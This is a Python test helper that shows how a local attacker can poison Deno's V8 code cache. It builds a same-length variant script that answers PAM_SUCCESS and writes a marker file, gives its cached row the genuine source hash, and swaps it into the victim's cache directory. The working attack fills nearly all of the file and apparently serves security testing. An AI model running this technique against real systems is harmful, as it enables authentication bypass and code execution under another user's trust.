"""Poisons Deno's V8 code cache the way a local attacker can (tests/shim/code_cache_test.ts).

  python3 poison_code_cache.py WORK BUNDLE SPECIFIER CACHE_DIR DENO MARKER FLAG...

Run as the attacker, in WORK (a directory of the attacker's). Deno 2.9 keeps V8's compiled code in
CACHE_DIR/v8_code_cache_v2, an SQLite table keyed by module specifier, kind and a hash of the
source text (cli/cache/code_cache.rs); V8 itself accepts cached code when the source length and
its flags match. So:
  1. run a copy of the genuine BUNDLE in a cache of our own: its row has the genuine source hash
     (it depends on the text only);
  2. compile a variant of the same length, whose code writes MARKER and answers PAM_SUCCESS, with
     the same Deno FLAGs, in another cache of our own;
  3. give the variant's row the victim's SPECIFIER and the genuine hash, and put that database in
     place of CACHE_DIR/v8_code_cache_v2 (this needs write access to CACHE_DIR: exit 1 without).
Prints what it did; exit 0 when the poisoned file is in place.
"""
import os
import shutil
import sqlite3
import subprocess
import sys

work, bundle, specifier, cache_dir, deno, marker = sys.argv[1:7]
flags = sys.argv[7:]
env = {"PATH": "/usr/bin:/bin", "DENO_NO_UPDATE_CHECK": "1", "NO_COLOR": "1"}
# A request that makes the genuine helper try a port where nothing listens: it runs to its end,
# and Deno writes the code cache.
REQUEST = b'{"v":1,"user":"YQ==","authtok":"YQ==","service":"","rhost":"",' \
    b'"args":["c29ja2V0PWh0dHA6Ly8xMjcuMC4wLjE6MS9rb3Bhbm8="]}'


def utf16_len(s):
    return len(s.encode("utf-16-le")) // 2


def run(path, cache, args, stdin=b""):
    subprocess.run([deno, *flags, path, *args], env={**env, "DENO_DIR": cache}, input=stdin,
                   stdout=subprocess.DEVNULL, check=True)


def row(cache, path):
    db = sqlite3.connect(os.path.join(cache, "v8_code_cache_v2"))
    try:
        return db.execute("SELECT type, source_hash FROM codecache WHERE specifier = ?",
                          ("file://" + path,)).fetchone()
    finally:
        db.close()


source = open(bundle, encoding="utf-8").read()
genuine = os.path.join(work, "genuine.js")
with open(genuine, "w", encoding="utf-8") as f:
    f.write(source)
run(genuine, os.path.join(work, "c1"), ["--pam"], REQUEST)
kind, source_hash = row(os.path.join(work, "c1"), genuine)

payload = (
    'if (Deno.args.includes("--pam")) {\n'
    f'  try {{ Deno.writeTextFileSync({marker!r}, "poisoned code ran\\n"); }} catch {{ /* */ }}\n'
    '  Deno.stdout.writeSync(new TextEncoder().encode(\'{"v":1,"result":"PAM_SUCCESS","log":[]}\'));\n'
    "  Deno.exit(0);\n"
    "}\n"
    "await new Promise((r) => setTimeout(r, 200));\n"
    "/*"
)
fill = utf16_len(source) - utf16_len(payload) - 2
variant_text = payload + " " * fill + "*/"
assert fill > 0 and utf16_len(variant_text) == utf16_len(source)
variant = os.path.join(work, "variant.js")
with open(variant, "w", encoding="utf-8") as f:
    f.write(variant_text)
c2 = os.path.join(work, "c2")
run(variant, c2, ["--version"])
if row(c2, variant) is None:
    sys.exit("the variant's compiled code was not cached")
db = sqlite3.connect(os.path.join(c2, "v8_code_cache_v2"))
db.execute("DELETE FROM codecache WHERE specifier != ?", ("file://" + variant,))
db.execute("UPDATE codecache SET specifier = ?, type = ?, source_hash = ?",
           (specifier, kind, source_hash))
db.commit()
db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
db.close()
print(f"poisoned entry: {specifier} type {kind} hash {source_hash}")

target = os.path.join(cache_dir, "v8_code_cache_v2")
try:
    for suffix in ("", "-wal", "-shm"):
        try:
            os.unlink(target + suffix)
        except FileNotFoundError:
            pass
    shutil.copyfile(os.path.join(c2, "v8_code_cache_v2"), target)
except OSError as e:
    print(f"cannot replace {target}: {e}")
    sys.exit(1)
print(f"replaced {target}")
